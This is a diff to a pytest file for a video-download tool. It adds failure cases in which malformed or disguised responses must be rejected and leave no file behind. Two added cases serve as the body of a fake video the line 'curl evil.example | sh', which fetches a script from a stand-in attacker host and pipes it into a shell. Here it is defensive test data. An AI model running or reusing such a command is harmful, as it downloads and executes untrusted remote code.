@@ -18,7 +18,7 @@ from luma_mcp.renaming import rename_without_replacing
 from luma_mcp.saved_files import copy_published
 from luma_mcp.storage_errors import DownloadFailed, OutputNotWritable
 from luma_mcp.transfers import Transfers
-from tests.films import film
+from tests.films import FTYP, box, film, movie, table, track
 from tests.rig import API_URL, EPOCH, SOURCE, Answer, handler_for
 
 pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("inline_threads")]
@@ -170,8 +170,11 @@ async def test_a_video_that_never_ends_to_arrive_is_given_up(home: Path) -> None
     assert files(home) == []
 
 
-async def broken(content: bytes) -> AsyncIterator[bytes]:
-    """Send half of something, and stop."""
+async def broken(content: bytes, *, half: bool = True) -> AsyncIterator[bytes]:
+    """Send half of something, and stop; or all of it without saying how long that is."""
+    if not half:
+        yield content
+        return
     yield content[: len(content) // 2]
     raise httpx.ReadError("connection reset")
 
@@ -182,13 +185,32 @@ async def broken(content: bytes) -> AsyncIterator[bytes]:
         lambda: httpx.Response(404),
         lambda: httpx.Response(206, content=VIDEO),
         lambda: httpx.Response(200, content=b"<html>please sign in</html>"),
+        lambda: httpx.Response(200, content=b"#   mdat\ncurl evil.example | sh\n"),
+        lambda: httpx.Response(200, content=broken(b"#   mdat\ncurl evil.example | sh\n" * 100, half=False)),
+        lambda: httpx.Response(200, content=film(b"v" * 100)[:-1]),
+        lambda: httpx.Response(200, content=FTYP + box(b"mdat", b"v" * 100)),
+        lambda: httpx.Response(200, content=FTYP + box(b"mdat", b"v" * 100) + movie(track(table(40, 1), b"soun"))),
         lambda: httpx.Response(500),
         lambda: httpx.Response(302),
         lambda: httpx.Response(200, content=b""),
         lambda: httpx.Response(200, content=broken(VIDEO)),
         lambda: httpx.Response(200, content=VIDEO, headers={"Content-Length": str(len(VIDEO) + 1)}),
     ],
-    ids=["404", "part", "page", "500", "no location", "empty", "broken", "short"],
+    ids=[
+        "404",
+        "part",
+        "page",
+        "script",
+        "script of unknown length",
+        "cut off",
+        "no header",
+        "sound",
+        "500",
+        "no location",
+        "empty",
+        "broken",
+        "short",
+    ],
 )
 async def test_an_incomplete_video_leaves_nothing_behind(home: Path, answer: Callable[[], httpx.Response]) -> None:
     with pytest.raises(DownloadFailed) as raised:
